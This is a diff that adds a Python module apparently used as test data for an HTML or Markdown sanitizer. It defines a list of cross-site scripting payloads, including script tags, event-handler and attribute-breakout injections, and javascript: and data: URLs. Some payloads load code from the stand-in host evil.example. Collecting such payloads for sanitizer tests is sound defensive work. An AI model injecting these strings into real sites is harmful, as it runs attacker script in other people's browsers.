@@ -1,0 +1,57 @@
+"""Texts of people who would like to run a script in somebody else's browser; `MARK` tells them from the page around."""
+
+from __future__ import annotations
+
+MARK = "marigoldxss"
+PAYLOADS = (
+    f"<script>{MARK}()</script>",
+    f"<ScRiPt src=//evil.example/{MARK}.js></sCrIpT>",
+    f"<script/x>{MARK}()</script >",
+    f"<<script>{MARK}();//<</script>",
+    f"</script><script>{MARK}()</script>",
+    f"</title><script>{MARK}()</script>",
+    f"</textarea><script>{MARK}()</script>",
+    f"</option></select><script>{MARK}()</script>",
+    f"--><script>{MARK}()</script>",
+    f"]]><script>{MARK}()</script>",
+    f"<img src=x onerror={MARK}()>",
+    f"<img src=x onerror={MARK}() x='",
+    f'<img/src="x"/onerror={MARK}()>',
+    f'<img src=x oNeRrOr="{MARK}()">',
+    f"<svg onload={MARK}()>",
+    f"<svg/onload={MARK}()//",
+    f"<svg><script>{MARK}()</script></svg>",
+    f'<svg><a xlink:href="javascript:{MARK}()"><text y=9>x</text></a></svg>',
+    f"<body onload={MARK}()>",
+    f"<details open ontoggle={MARK}()>",
+    f"<input autofocus onfocus={MARK}()>",
+    f"<video><source onerror={MARK}()></video>",
+    f"<marquee onstart={MARK}()>",
+    f'<iframe src="javascript:{MARK}()"></iframe>',
+    f'<iframe srcdoc="&lt;script&gt;{MARK}()&lt;/script&gt;"></iframe>',
+    f'<object data="javascript:{MARK}()"></object>',
+    f"<embed src=//evil.example/{MARK}>",
+    f'<base href="//evil.example/{MARK}/">',
+    f'<meta http-equiv=refresh content="0;url=javascript:{MARK}()">',
+    f'<a href="javascript:{MARK}()">x</a>',
+    f'<a href="jav&#x09;ascript:{MARK}()">x</a>',
+    f'<form action="javascript:{MARK}()"><button>x</button></form>',
+    f'<button formaction="javascript:{MARK}()">x</button>',
+    f"<math><mtext><script>{MARK}()</script></mtext></math>",
+    f'" onmouseover="{MARK}()" x="',
+    f"' onmouseover='{MARK}()' x='",
+    f'"><script>{MARK}()</script>',
+    f"'><img src=x onerror={MARK}()>",
+    f"` onmouseover={MARK}() ",
+    f"x onmouseover={MARK}() ",
+    f"<style>@import '//evil.example/{MARK}';</style>",
+    f'<p style="background:url(javascript:{MARK}())">x</p>',
+)
+ADDRESSES = (
+    f"javascript:{MARK}()",
+    f"JaVaScRiPt:{MARK}()",
+    f" \tjavascript:{MARK}()",
+    f"vbscript:{MARK}()",
+    f"data:text/html,<script>{MARK}()</script>",
+)
+"""What a link of Markdown must not lead to."""
